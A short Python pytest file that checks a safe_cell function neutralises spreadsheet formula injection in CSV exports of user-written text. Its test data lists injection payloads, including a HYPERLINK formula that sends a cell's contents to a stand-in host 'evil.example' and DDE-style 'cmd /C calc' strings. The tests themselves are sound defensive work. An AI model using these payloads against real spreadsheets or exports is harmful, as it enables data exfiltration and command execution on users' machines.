"""SAFETY T31: what strangers wrote must not compute when an owner opens it in a spreadsheet."""

import csv
import io

import pytest

from voxpop.tables import safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
]
HARMLESS = ["", "plain", "1 = 1", "a@b", "3-2", "'quoted", "“=1”", "１"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula):
    out = io.StringIO(newline="")
    csv.writer(out).writerow([safe_cell(formula)])
    ((cell,),) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert cell[0] not in "=+-@\t\r"
    assert cell[1:] == formula


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert safe_cell(text) == text
